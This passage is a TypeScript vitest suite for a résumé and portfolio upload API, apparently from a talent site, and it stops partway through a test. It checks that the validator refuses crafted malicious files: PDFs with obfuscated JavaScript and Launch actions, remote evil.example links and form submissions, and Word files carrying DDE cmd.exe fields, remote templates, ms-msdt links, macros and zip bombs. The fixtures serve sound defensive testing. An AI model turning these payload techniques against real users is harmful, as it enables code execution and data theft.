import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import * as make from '#test/made/files.ts';
import { uploadForm } from '#test/made/files.ts';
import { type AccountSite, accountSite, type Browser } from '#test/sites/account-site.ts';
import { hasChromium, printedByChromium } from '#test/sites/chromium.ts';
import { testWhere } from '#test/test-where.ts';
import type { UploadedFile } from './contract.ts';
import { CATEGORY_RULES, FILE_CATEGORIES, type FileCategory, fixedTitle } from './rules.ts';

const MB = 1_048_576;

const upload = (browser: Browser, bytes: Uint8Array | undefined, fields: make.UploadFields) =>
  browser.call('POST', '/api/upload', uploadForm(bytes, fields));

/** The stored file of an upload that must succeed. */
async function stored(browser: Browser, bytes: Uint8Array, fields: make.UploadFields): Promise<UploadedFile> {
  const [status, reply] = await upload(browser, bytes, fields);
  expect([status, reply]).toEqual([201, reply]);
  return reply as UploadedFile;
}

const list = async (browser: Browser) => (await browser.ok('GET', '/api/uploadFile')) as UploadedFile[];

const bytesAt = async (browser: Browser, { urlPath }: UploadedFile) =>
  Buffer.from(await (await browser.send('GET', `/${urlPath}`)).arrayBuffer());

/** Every file in the storage's folder, and every row. */
async function remains({ deps }: AccountSite) {
  const keys: string[] = [];
  const folder = (await deps.storage.folder())!;
  for await (const found of folder.keys()) keys.push(...found);
  const rows = await deps.database.db.selectFrom('uploaded_files').select(['file_name', 'status']).execute();
  return { keys: keys.length, rows: rows.length, drafts: await folder.removeDrafts(0) };
}

const NOTHING = { keys: 0, rows: 0, drafts: 0 };

async function signedIn() {
  const site = await accountSite();
  return { site, member: await site.member('ming@example.com') };
}

test('a stranger uploads, lists and removes nothing', async () => {
  const stranger = (await accountSite()).browser();
  expect((await upload(stranger, make.pdf(), { categoryName: '作品集', title: 'a' }))[0]).toBe(401);
  expect((await stranger.send('GET', '/api/uploadFile')).status).toBe(401);
  expect((await stranger.send('DELETE', '/api/uploadFile/x')).status).toBe(401);
});

test('a file comes back as it was sent, under a name of the server’s', async () => {
  const { member } = await signedIn();
  const bytes = make.pdf('mine');
  const file = await stored(member, bytes, { categoryName: '作品集', title: ' 作品 ', name: '我的作品.PDF' });
  expect(file).toEqual({
    fileUploadId: expect.any(String),
    uploadFileId: expect.any(String),
    talentId: expect.any(String),
    status: 'stored',
    category: '作品集',
    categoryName: '作品集',
    title: '作品',
    fileName: `${file.uploadFileId}.pdf`,
    urlPath: `users/${file.talentId}/${file.fileName}`,
  });
  expect(await list(member)).toEqual([file]);
  expect(await bytesAt(member, file)).toEqual(bytes);
});

const KINDS = {
  png: make.png,
  jpg: make.jpeg,
  webp: make.webp,
  pdf: make.pdf,
  doc: make.doc,
  docx: make.docx,
} as const;

const takes = (category: FileCategory, kind: keyof typeof KINDS) =>
  CATEGORY_RULES[category].extensions.includes(`.${kind}`);

test.each(FILE_CATEGORIES)('%s takes its kinds and no other', async (category) => {
  const { site, member } = await signedIn();
  for (const [kind, bytes] of Object.entries(KINDS) as [keyof typeof KINDS, () => Buffer][]) {
    const fields = { categoryName: category, title: 'a', name: `file.${kind}` };
    const [status, reply] = await upload(member, await bytes(), fields);
    if (takes(category, kind)) expect([kind, status]).toEqual([kind, 201]);
    else expect([kind, status, reply]).toMatchObject([kind, 400, { errors: { file: ['檔案 須為有效的檔案類型'] } }]);
  }
  const { keys, rows } = await remains(site);
  expect(keys).toBe(rows);
});

test.each(FILE_CATEGORIES)('%s takes a file below its limit, and not at it', async (category) => {
  const { site, member } = await signedIn();
  const { below } = CATEGORY_RULES[category];
  const isPhoto = takes(category, 'png');
  const [name, bytes] = isPhoto ? ['a.png', await make.png()] : ['a.pdf', make.pdf()];
  const fields = { categoryName: category, title: 'a', name };
  const [status, reply] = await upload(member, make.padded(bytes, below), fields);
  expect([status, (reply as { errors: unknown }).errors]).toEqual([
    400,
    { file: [`檔案 須小於 ${isPhoto ? 1024 : 4096} KB`] },
  ]);
  expect(await remains(site)).toEqual(NOTHING);
  await stored(member, make.padded(bytes, below - 1), fields);
});

test.each<[string, make.UploadFields, Record<string, string[]>]>([
  ['no category', { title: 'a' }, { categoryName: ['類別 為必填'] }],
  ['another category', { categoryName: '其他', title: 'a' }, { categoryName: ['類別 不是有效的選項'] }],
  ['no title', { categoryName: '作品集' }, { title: ['標題 為必填'] }],
  ['a blank title', { categoryName: '專業證照', title: '　 ', name: 'a.png' }, { title: ['標題 為必填'] }],
  ['a title too long', { categoryName: '作品集', title: '長'.repeat(51) }, { title: ['標題 不得超過 50 個字元'] }],
  [
    'an optional title too long',
    { categoryName: '個人生活照', title: '𠮷'.repeat(51), name: 'a.png' },
    { title: ['標題 不得超過 50 個字元'] },
  ],
  ['no extension', { categoryName: '作品集', title: 'a', name: 'resume' }, { file: ['檔案 須為有效的檔案類型'] }],
  ['a double one', { categoryName: '作品集', title: 'a', name: 'a.pdf.exe' }, { file: ['檔案 須為有效的檔案類型'] }],
  [
    'a long upload key',
    { categoryName: '作品集', title: 'a', uploadKey: 'k'.repeat(61) },
    { uploadKey: ['uploadKey 不得超過 60 個字元'] },
  ],
])('%s is refused with its field', async (_, fields, errors) => {
  const { site, member } = await signedIn();
  const [status, reply] = await upload(member, make.pdf(), fields);
  expect([status, (reply as { errors: unknown }).errors]).toEqual([400, errors]);
  expect(await remains(site)).toEqual(NOTHING);
});

test('a form without a file is refused with all that is wrong', async () => {
  const { member } = await signedIn();
  for (const [bytes, name] of [[undefined, ''] as const, [new Uint8Array(), ''] as const]) {
    const [status, reply] = await upload(member, bytes, { categoryName: '推薦協議書', name });
    expect([status, reply]).toMatchObject([400, { errors: { file: ['檔案 為必填'] } }]);
  }
  const text = new FormData();
  text.append('categoryName', '推薦協議書');
  text.append('file', 'no file but a text');
  expect(await member.call('POST', '/api/upload', text)).toMatchObject([400, { errors: { file: ['檔案 為必填'] } }]);
  const both = await upload(member, make.program(), { categoryName: '作品集', name: 'a.exe' });
  expect(both).toMatchObject([400, { errors: { title: ['標題 為必填'], file: ['檔案 須為有效的檔案類型'] } }]);
});

test('titles: a lifestyle photo may have none, some categories have their own', async () => {
  const { member } = await signedIn();
  const photo = await stored(member, await make.png(), { categoryName: '個人生活照', name: 'a.png' });
  expect(photo.title).toBe('');
  for (const category of ['英文履歷', '推薦協議書'] as const) {
    const file = await stored(member, make.pdf(), { categoryName: category, title: '別的'.repeat(100) });
    expect(file.title).toBe(fixedTitle(category));
  }
  const avatar = await stored(member, await make.png(), { categoryName: '大頭照', title: 'x', name: 'a.png' });
  expect(avatar).toMatchObject({ title: '個人照', fileName: expect.stringMatching(/\.webp$/) });
});

const word = (name: string, bytes: Buffer) => [name, '作品集', bytes, '檔案 須為有效的檔案類型'] as const;
const photo = (name: string, bytes: Buffer) => [name, '個人生活照', bytes, '檔案 須為圖片'] as const;

test('files that are not what they say are refused and leave nothing', async () => {
  const { site, member } = await signedIn();
  const png = await make.png(300, 300);
  const html = make.page();
  const sfx = Buffer.concat([make.program(), make.docx()]);
  const liars = [
    photo('program.png', make.program()),
    photo('page.jpg', html),
    photo('drawing.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')),
    photo('document.png', make.pdf()),
    photo('cut.png', png.subarray(0, png.length / 2)),
    photo('head.png', Buffer.concat([png.subarray(0, 8), make.program()])),
    photo('head.webp', Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ')),
    photo('empty.png', Buffer.alloc(0)),
    word('page.pdf', html),
    word('page-before.pdf', Buffer.concat([html, make.pdf()])),
    word('page-inside.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), html, make.pdf()])),
    word('page-after.pdf', Buffer.concat([make.pdf(), html])),
    word('page-deep-inside.pdf', make.pdf(`${'x'.repeat(1200)}<html><script>`)),
    word('script-inside.pdf', make.pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    word('program-inside.pdf', make.pdf('<</S/Launch/F(calc.exe)>>')),
    word('archive-after.pdf', Buffer.concat([make.pdf(), make.docx()])),
    word('program-after.pdf', Buffer.concat([make.pdf(), make.program()])),
    word('head-only.pdf', Buffer.from('%PDF-1.7\n')),
    word('program.pdf', make.program()),
    word('picture.docx', png),
    word('archive.docx', make.zip({ 'a.txt': 'a' })),
    word('sheet.docx', make.zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<x/>' })),
    word('macros.docx', make.docx({ 'word/vbaProject.bin': 'x' })),
    word('macros-by-type.docx', make.docx({ '[Content_Types].xml': '<Types>macroEnabled.main+xml</Types>' })),
    word('bomb.docx', make.docx({ 'word/media/zeros.bin': new Uint8Array(60 * MB) })),
    word('lying-bomb.docx', make.lying(make.docx({ 'word/media/zeros.bin': new Uint8Array(60 * MB) }), 60 * MB, 1000)),
    word('no-types.docx', make.docx({ '[Content_Types].xml': 'hello' })),
    word('no-document.docx', make.docx({ 'word/document.xml': 'MZ not xml' })),
    word('types-bomb.docx', make.docx({ '[Content_Types].xml': new Uint8Array(2 * MB) })),
    word('program-before.docx', sfx),
    word('after.docx', Buffer.concat([make.docx(), make.program()])),
    word('cut.docx', make.docx().subarray(0, 200)),
    word('sheet.doc', make.compoundFile(['Workbook'])),
    word('macros.doc', make.compoundFile(['WordDocument', 'Macros'])),
    word('package.doc', make.compoundFile(['EncryptedPackage'])),
    word('cut.doc', make.doc().subarray(0, 700)),
    word('text.doc', Buffer.from('{\\rtf1 text}')),
  ];
  for (const [name, categoryName, bytes, message] of liars) {
    const [status, reply] = await upload(member, bytes, { categoryName, title: 'a', name });
    expect([name, status, (reply as { errors?: unknown }).errors]).toEqual([name, 400, { file: [message] }]);
  }
  expect(await remains(site)).toEqual(NOTHING);
});

test('a PDF may be filled up with NULs behind its end, and a document’s parts may be empty elements', async () => {
  const { member } = await signedIn();
  const filled = Buffer.concat([make.pdf(), Buffer.alloc(4 * MB - 1 - make.pdf().length)]);
  await stored(member, filled, { categoryName: '作品集', title: 'a', name: 'a.pdf' });
  const short = make.docx({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' });
  await stored(member, short, { categoryName: '作品集', title: 'a', name: 'a.docx' });
  const glued = Buffer.concat([make.pdf(), make.zip({ 'a.txt': 'x' }), Buffer.alloc(5000)]);
  const [status] = await upload(member, glued, { categoryName: '作品集', title: 'a', name: 'a.pdf' });
  expect(status).toBe(400);
});

const inCatalog = (text: string) => Buffer.from(make.pdf().toString().replace('/Pages', `${text}/Pages`));

/** The content of an object stream that holds a script, in each encoding that a filter undoes. */
const SCRIPT = Buffer.from('7 0 <</S/JavaScript/JS(app.alert(1))>>');
const SCRIPT_AS = {
  hex: Buffer.from(`${SCRIPT.toString('hex')}>`),
  // 4 zero bytes are written as one z: the content doesn't matter, using this filter is enough.
  ascii85: Buffer.from('zzzz~>'),
  runs: Buffer.concat([Buffer.from([SCRIPT.length - 1]), SCRIPT, Buffer.from([128])]),
  flate: deflateSync(SCRIPT),
};

const PROGRAMS: Record<string, Buffer> = {
  'a script, its name in numbers': inCatalog('/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>'),
  'a script, all of it in numbers': inCatalog('/OpenAction<</#53/#4a#61#76#61#53#63#72#69#70#74/J#53(x)>>'),
  'a script after a comment': inCatalog('/OpenAction<</S %\n/JavaScript/JS(x)>>'),
  'a script by its list': inCatalog('/Names<</JavaScript 5 0 R>>'),
  'a script’s kind by itself': make.pdf('\n7 0 obj/JavaScript endobj'),
  'a program, its name in numbers': inCatalog('/OpenAction<</S/L#61unch/F(cmd.exe)>>'),
  'attached files': inCatalog('/Names<</EmbeddedFiles<</Names[(evil.exe) 5 0 R]>>>>'),
  'an attached file by its place': make.pdf('\n5 0 obj<</Type/Filespec/F(evil.exe)/EF<</F 6 0 R>>>>endobj'),
  'an attached file by its kind': make.pdf('\n6 0 obj<</Type /EmbeddedFile/Length 0>>stream\nendstream endobj'),
  'a pinned file': inCatalog('/X<</Subtype/FileAttachment/FS 5 0 R>>'),
  'a link that is a script': inCatalog('/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'a link in numbers': inCatalog('/A<</S/URI/URI(\\152ava\\\nscript:alert)>>'),
  'a link in hex': inCatalog(`/A<</S/URI/URI <${Buffer.from('JavaScript:alert(1)').toString('hex')}>>>`),
  'a script behind a harmless link': inCatalog('/A<</S/URI/URI(https://a.tw)>>/B<</S/URI/URI(javascript:x)>>'),
  'a link that stands elsewhere': make.pdf('\n5 0 obj<</S/URI/URI 6 0 R>>endobj 6 0 obj(javascript:x)endobj'),
  'rich media': inCatalog('/X<</Subtype/RichMedia>>'),
  'a form of XML': inCatalog('/AcroForm<</XFA 9 0 R>>'),
  'another file that opens': inCatalog('/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>'),
  'a script in an object stream': make.packedPdf('<</S/JavaScript/JS(app.alert(1))>>'),
  'a script in an object stream of another name': make.packedPdf('<</S/JavaScript/JS(x)>>', '/Type/Metadata'),
  'a file in an object stream': make.packedPdf('<</EmbeddedFiles 9 0 R>>'),
  'an object stream that cannot be unpacked': make.packedPdf('<</A 1>>', '/Type/ObjStm', (bytes) => bytes.fill(7, 12)),
  'an object stream packed in another way': make.packedPdf('<</A 1>>', '/Type/Obj#53tm', () => Buffer.from('garbage')),
  'a script in an object stream, after a dictionary of thousands of signs': make.packedPdf(
    'x',
    `/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/Note(${'A'.repeat(2100)})`,
  ),
  'an object stream behind hex': make.filteredPdf('/ASCIIHexDecode', SCRIPT_AS.hex),
  'an object stream behind ASCII85': make.filteredPdf('/ASCII85Decode', SCRIPT_AS.ascii85),
  'an object stream behind runs': make.filteredPdf('/RunLengthDecode', SCRIPT_AS.runs),
  'an object stream behind LZW': make.filteredPdf('/LZWDecode', Buffer.from([0x80, 0x0b, 0x60])),
  'an object stream whose filter stands elsewhere': make.filteredPdf('9 0 R', SCRIPT_AS.flate),
  'an object stream under a filter’s other name': make.filteredPdf('/AHx', SCRIPT_AS.hex, '/F'),
  'a dictionary that is not whole': make.pdf('\n7 0 obj<</Length 5/Filter/FlateDecode(>>\nstream\nx\nendstream endobj'),
  'a stream without a dictionary of its own': make.pdf('\n(x)>>\nstream\nx\nendstream'),
  'a script far behind its key': make.pdf(`\n7 0 obj<</S %${'x'.repeat(99)}\n/JavaScript>>endobj`),
  'an address that opens by itself': inCatalog('/OpenAction<</S/URI/URI(http://evil.example/?id=7)>>'),
  'an address that opens by its number': make.pdf(
    '\n7 0 obj<</S/URI/URI(http://a.tw)>>endobj 8 0 obj<</OpenAction 7 0 R>>endobj',
  ),
  'an address that opens after a harmless step': inCatalog(
    '/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://a.tw)>>]>>',
  ),
  'an address that opens with a page': inCatalog('/AA<</O<</S/URI/URI(http://a.tw)>>>>'),
  'steps without end': make.pdf(
    `\n8 0 obj<</OpenAction 10 0 R>>endobj${Array.from({ length: 90_000 }, (_, i) => `\n${i + 10} 0 obj<</S/GoTo/Next ${i + 11} 0 R>>`).join('')}`,
  ),
  'what opens is nowhere': inCatalog('/OpenAction 77 0 R'),
  'an action whose kind stands elsewhere': make.pdf('\n7 0 obj<</S 8 0 R/F(x)>>endobj 8 0 obj/Thread endobj'),
  'a form that is sent': inCatalog('/A<</S/SubmitForm/F(http://evil.example)>>'),
  'a thread of another file': inCatalog('/OpenAction<</S/Thread/F(\\\\\\\\evil\\\\x)>>'),
  'data from another file': inCatalog('/A<</S/ImportData/F(x.fdf)>>'),
  'a film': inCatalog('/A<</S/Movie/T(x)>>'),
  'a sound': inCatalog('/A<</S /Sound/Sound 9 0 R>>'),
  'a film as a note': inCatalog('/Annots[<</Subtype/Movie/Movie<</F(http://evil.example/x.avi)>>>>]'),
  'a stream whose bytes lie elsewhere': make.pdf(
    '\n7 0 obj<</Length 0/F(\\\\\\\\evil\\\\x)/FFilter/FlateDecode>>stream\n\nendstream endobj',
  ),
  'a page of another file': make.pdf(
    '\n7 0 obj<</Subtype/Form/Length 0/Ref<</F(\\\\\\\\evil\\\\x)/Page 0>>>>stream\n\nendstream endobj',
  ),
  'a link to a file': inCatalog('/Annots[<</A<</S/URI/URI(file://evil.example/x)>>>>]'),
  'a link to a share': inCatalog('/Annots[<</A<</S/URI/URI(//evil.example/x)>>>>]'),
  'a link that starts a program': inCatalog('/Annots[<</A<</S/URI/URI(ms-msdt:/id)>>>>]'),
  'an object stream that is a bomb': make.packedPdf(`<</A(${'x'.repeat(20_000_000)})>>`),
};

const rels = (type: string, target: string, mode = ' TargetMode="External"', name = 'document') => ({
  [`word/_rels/${name}.xml.rels`]:
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
    `Target="${target}"${mode}/></Relationships>`,
});
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

const inWord = (xml: string, before = '') =>
  make.docx({ 'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?>${before}<w:document>${xml}</w:document>` });
const [BEGIN, SEPARATE, END] = ['begin', 'separate', 'end'].map(
  (type) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`,
);
const field = (...pieces: string[]) =>
  `${BEGIN}${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}` +
  `${SEPARATE}<w:r><w:t>x</w:t></w:r>${END}`;

const DOCUMENTS: Record<string, Buffer> = {
  'a program as an object': make.docx({ 'word/embeddings/oleObject1.bin': 'x' }),
  'a package as an object': make.docx({ 'word/embeddings/Package1.docm': 'x' }),
  'macros in a chart’s workbook': make.docx({ 'word/embeddings/a.xlsx': make.zip({ 'xl/vbaProject.bin': 'x' }) }),
  'macros by another name': make.docx({ 'word/media/image1.png': OLE }),
  'macros by their type': make.docx({
    '[Content_Types].xml':
      '<Types><Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
  }),
  'a program by another name': make.docx({ 'word/media/image1.emf': make.program() }),
  'a control': make.docx({ 'word/activeX/activeX1.xml': '<x/>' }),
  'a template from elsewhere': make.docx(rels('attachedTemplate', 'http://evil.example/x.dotm', undefined, 'settings')),
  'a template on a share': make.docx(rels('attachedTemplate', '\\\\evil.example\\x.dotm')),
  'a template on a share, as a file': make.docx(rels('attachedTemplate', 'file://evil.example/x.dotm')),
  'a template, not said to be elsewhere': make.docx(rels('attachedTemplate', 'https://evil.example/x.dotm', '')),
  'a template in numbers': make.docx(
    rels('attached&#84;emplate', 'http://evil.example/x', " TargetMode='Ext&#x65;rnal'"),
  ),
  'an object from elsewhere': make.docx(
    rels('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example'),
  ),
  'a frame from elsewhere': make.docx(rels('frame', 'http://evil.example/')),
  'a part of the document from elsewhere': make.docx(rels('subDocument', 'http://evil.example/x.docx')),
  'a link that is a script': make.docx(rels('hyperlink', 'java&#9;script:alert(1)')),
  'a link that starts a program': make.docx(rels('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
  'a link that searches elsewhere': make.docx(rels('hyperlink', 'search-ms:query=x')),
  'a link to a file': make.docx(rels('hyperlink', 'file://evil.example/x')),
  'a link to a share': make.docx(rels('hyperlink', '\\\\evil.example\\x')),
  'a picture that tells who opened it': make.docx(rels('image', 'https://evil.example/pixel.png')),
  'another document in place of the text': make.docx({
    ...rels('aFChunk', 'chunk.html', ''),
    'word/chunk.html': 'hello',
  }),
  'another document by its mark': inWord('<w:altChunk r:id="r1"/>'),
  'a program by DDE': inWord(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  'a program by DDE, in pieces': inWord(field('DD', 'E', 'AUTO cmd')),
  'a program by DDE, in numbers': inWord(field('&#68;DE cmd')),
  'a program by DDE, between remarks': inWord(field('D<!-- -->D<![CDATA[E]]> cmd')),
  'a program by DDE, behind an attribute with a sign in it': inWord(
    `${BEGIN}<w:instrText x=">">DDE cmd</w:instrText>${END}`,
  ),
  'a program by DDE, in an attribute': inWord("<w:fldSimple w:instr=' dde cmd '/>"),
  'a program by DDE, as a field of a field': inWord(`${BEGIN}${field('REF x')}${END}`),
  'a program by DDE, spelled': inWord(`${field('QUOTE 68 68 69')}`),
  'a picture by a field': inWord(field('INCLUDEPICTURE "http://evil.example/x.png"')),
  'a text by a field': inWord(field('INCLUDETEXT "http://evil.example/x.docx"')),
  'a field under another name': make.docx({ 'word/glossary.dat': `<w:document>${field('DDE x')}</w:document>` }),
  'a document with entities': inWord('', '<!DOCTYPE x [<!ENTITY a "DDE">]>'),
  'a picture on a share': make.docx(rels('image', 'file://evil.example/x.png')),
};

const works: [string, string, Buffer][] = [
  ...Object.entries(PROGRAMS).map(([name, bytes]): [string, string, Buffer] => [name, 'a.pdf', bytes]),
  ...Object.entries(DOCUMENTS).map(([name, bytes]): [string, string, Buffer] => [name, 'a.docx', bytes]),
];

test('files that carry programs, or bring them along, are refused and leave nothing', async () => {
  const { site, member } = await signedIn();
  for (const [what, name, bytes] of works) {
    const [status, reply] = await upload(member, bytes, { categoryName: '作品集', title: 'a', name });
    expect([what, status, (reply as { errors?: unknown }).errors]).toEqual([
      what,
      400,
      { file: ['檔案 須為有效的檔案類型'] },
    ]);
  }
  expect(await remains(site)).toEqual(NOTHING);
});

test('a PDF under a password, or whose owner forbids something, says so', async () => {
  const { member } = await signedIn();
  const locked = [400, { errors: { file: ['檔案 設有密碼或編輯限制，請解除保護後再上傳'] } }];
  for (const ownerPassword of ['owner', '']) {
    const doc = new PDFDocument({ userPassword: ownerPassword ? '' : 'user', ownerPassword, pdfVersion: '1.7' });
    const drawn = buffer(doc);
    doc.text('王小明', { link: 'https://example.com' });
    doc.end();
    expect(await upload(member, await drawn, { categoryName: '作品集', title: 'a' })).toMatchObject(locked);
  }
});

const LINKS = '/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.tw/?q=javascript:)>>>><</A<</URI(mailto:a@b.tw)>>>>]';
const FIELDS = '/AcroForm<</Fields[9 0 R]/NeedAppearances true>>/OpenAction[3 0 R/Fit]';
const WELL_READ = '<</Title(HTML/CSS/JavaScript, React/Launch)/Subject(JavaScript: 5 years)/Keywords(/EFfort)>>';

const HARMLESS: Record<string, Buffer> = {
  'links.pdf': inCatalog(LINKS),
  'fields.pdf': inCatalog(FIELDS),
  'telephone.pdf': inCatalog('/Annots[<</A<</S/URI/URI(tel:+886912345678)>>>>]/URI<</Base(https://a.tw/)>>'),
  'without-scheme.pdf': inCatalog('/Annots[<</A<</S/URI/URI(www.linkedin.com/in/ming)>>>>]'),
  'opens-on-a-page.pdf': make.pdf(
    '\n7 0 obj<</S/GoTo/D[3 0 R/XYZ null null 0]>>endobj 8 0 obj<</OpenAction 7 0 R>>endobj',
  ),
  'long-dictionary.pdf': make.pdf(`\n7 0 obj<</Length 0/Note(${'A'.repeat(200_000)})>>stream\n\nendstream endobj`),
  'of-a-developer.pdf': make.pdf(`\n9 0 obj${WELL_READ}endobj`),
  'packed.pdf': make.packedPdf(`<<${LINKS}${FIELDS}>> ${WELL_READ}`),
  'links.docx': make.docx({
    ...rels('hyperlink', 'https://www.linkedin.com/in/ming?a=1&amp;b=2'),
    ...rels('attachedTemplate', 'file:///C:\\Users\\ming\\Templates\\Resume.dotx', undefined, 'settings'),
  }),
  'fields.docx': inWord(
    field(' PAGE ') + field(' HYPERLINK "https://a.tw/dde" ') + field(' TOC \\o "1-3" ') + field('IF 1=1 "LINK"'),
  ),
  'result-with-fields.docx': inWord(`${BEGIN}<w:instrText> TOC </w:instrText>${SEPARATE}${field('PAGEREF x')}${END}`),
  'mail.docx': make.docx(rels('hyperlink', 'mailto:ming@example.com')),
  'picture.docx': make.docx({ ...rels('image', 'media/image1.png', ''), 'word/media/image1.png': Buffer.from('png') }),
  'chart.docx': make.docx({
    ...rels('package', '../embeddings/Workbook1.xlsx', '', 'chart1'),
    'word/embeddings/Workbook1.xlsx': make.zip({ 'xl/workbook.xml': '<workbook/>' }),
  }),
};

test('links, form fields, bookmarks, pictures and charts are no programs', async () => {
  const { member } = await signedIn();
  for (const [name, bytes] of Object.entries(HARMLESS))
    await stored(member, bytes, { categoryName: '作品集', title: 'a', name });
});

test('a PDF of many pages with links and fields is taken', async () => {
  const { member } = await signedIn();
  const doc = new PDFDocument({ info: { Title: 'HTML/CSS/JavaScript' } });
  const drawn = buffer(doc);
  doc.text('Ming', { link: 'https://example.com', underline: true });
  doc.initForm();
  doc.formText('name', 10, 10, 200, 20);
  for (let i = 0; i < 300; i++) doc.addPage().rect(0, 0, i, i).fill('red');
  doc.end();
  await stored(member, await drawn, { categoryName: '作品集', title: 'a' });
});

testWhere(hasChromium, 'no Chromium')('a PDF that Chromium prints of a resume with links is taken', async () => {
  const { member } = await signedIn();
  const page =
    '<meta charset=utf-8><h1>履歷 王小明</h1><a href="https://a.tw/x">作品</a> <a href="mailto:a@b.tw">信箱</a>';
  await stored(member, printedByChromium(page), { categoryName: '英文履歷' });
});

test('a file made to be gone over again and again is judged all the same, within the seconds there are', async () => {
  const { member } = await signedIn();
  const filled = (unit: string) => make.pdf(unit.repeat(Math.floor(3_900_000 / unit.length)));
  const relation = make.docx({ 'word/_rels/a.xml.rels': '<Relationship '.repeat(70_000) });
  // Anything that takes longer would be answered 503.
  const judged = [201, 400];
  for (const unit of [
    '/EF%',
    '/EF ',
    '/URI(',
    '/URI%',
    '/URI 1 ',
    '/J#61',
    '/GoToR',
    'stream\n',
    '1 0 obj<<>>stream\nx',
  ])
    expect(judged).toContain((await upload(member, filled(unit), { categoryName: '作品集', title: 'a' }))[0]);
  const answer = await upload(member, relation, { categoryName: '作品集', title: 'a', name: 'a.docx' });
  expect(judged).toContain(answer[0]);
});

test('photos are encoded anew: upright, without position or device, and nothing after their end', async () => {
  const { member } = await signedIn();
  const sent = await make.jpegFromPhone();
  expect((await sharp(sent).metadata()).exif?.includes('SecretPhone')).toBe(true);
  const script = Buffer.from('<script>alert(1)</script>');
  const file = await stored(member, Buffer.concat([sent, script]), { categoryName: '個人生活照', name: 'a.jpeg' });
  expect(file.fileName).toMatch(/\.jpg$/);
  const got = await bytesAt(member, file);
  const meta = await sharp(got).metadata();
  expect(meta).toMatchObject({ format: 'jpeg', width: 40, height: 60 });
  expect([meta.exif, meta.icc, meta.orientation, meta.xmp]).toEqual([undefined, undefined, undefined, undefined]);
  for (const text of ['SecretPhone', 'Exif', 'GPS', '<script>']) expect(got.includes(text), text).toBe(false);
});

test('photos keep their format and shrink to what is shown; the content says which format it is', async () => {
  const { member } = await signedIn();
  const of = async (bytes: Buffer, categoryName: FileCategory, name: string) =>
    sharp(await bytesAt(member, await stored(member, bytes, { categoryName, title: 'a', name }))).metadata();
  expect(await of(await make.png(3000, 1500), '個人生活照', 'a.png')).toMatchObject({ format: 'png', width: 2400 });
  expect(await of(await make.webp(), '專業證照', 'a.webp')).toMatchObject({ format: 'webp', width: 60, height: 40 });
  expect(await of(await make.jpeg(), '專業證照', 'a.png')).toMatchObject({ format: 'jpeg' });
  expect(await of(await make.jpeg(1000, 2000), '大頭照', 'a.jpg')).toMatchObject({ format: 'webp', height: 800 });
  expect(await of(await make.animatedWebp(), '個人生活照', 'a.webp')).toMatchObject({ format: 'webp', height: 20 });
});

test('a body that is too large, of another type or no form is refused', async () => {
  const { site, member } = await signedIn();
  const send = async (body: FormData | string, type?: string) => {
    const whole = new Response(body);
    const headers = { Cookie: [...member.cookies].map((c) => c.join('=')).join('; ') };
    const request = new Request('https://site.example/api/upload', {
      method: 'POST',
      body: await whole.arrayBuffer(),
      headers: { ...headers, 'Content-Type': type ?? whole.headers.get('Content-Type') ?? '' },
    });
    return (await site.app.fetch(request)).status;
  };
  const large = uploadForm(make.padded(make.pdf(), 4 * MB + 65_536), { categoryName: '作品集', title: 'a' });
  expect(await send(large)).toBe(413);
  expect(await send('{}', 'application/json')).toBe(415);
  expect(await send('a=b', 'application/x-www-form-urlencoded')).toBe(415);
  expect(await send('no form', 'multipart/form-data; boundary=x')).toBe(400);
  expect(await send('no form', 'multipart/form-data')).toBe(415);
  const many = new FormData();
  for (let i = 0; i < 30; i++) many.append('a', 'b');
  expect(await send(many)).toBe(400);
  expect(await remains(site)).toEqual(NOTHING);
});

const part = (name: string, more = '') => `--x\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\na\r\n`;

test('a form that costs long to take apart is refused at once, however its boundary is told', async () => {
  const { site, member } = await signedIn();
  const Cookie = [...member.cookies].map((c) => c.join('=')).join('; ');
  const send = async (body: string, type: string) => {
    const headers = { Cookie, 'Content-Type': `multipart/form-data; ${type}` };
    const request = new Request('https://site.example/api/upload', { method: 'POST', body, headers });
    const before = process.cpuUsage();
    const answer = await site.app.fetch(request);
    const told = [type, answer.status, await answer.json()];
    return { told, took: process.cpuUsage(before).user / 1000 };
  };
  const refusal = [400, '送出的資料格式不正確'];
  const parts = (count: number) => `${part('categoryName').repeat(count)}--x--\r\n`;
  const types = [
    ...['boundary=x', 'boundary="x"', 'BOUNDARY=x', 'xboundary=zzz; boundary=x', 'foo="boundary=zzz"; boundary=x'],
    ...['boundary=x; boundary=zzz', 'boundary=zzz; boundary=x', 'boundary="\\x"', 'boundary=', 'boundary="', 'foo=x'],
    ...['boundary=x; charset=utf-16', "boundary*=utf-8''x", 'boundary="x;zzz"', 'boundary=x y'],
  ];
  const costly: [string, string][] = [
    ...types.map((type): [string, string] => [parts(60_000), type]),
    [`${part('a', '; a="b"'.repeat(400_000))}--x--\r\n`, 'boundary=x'],
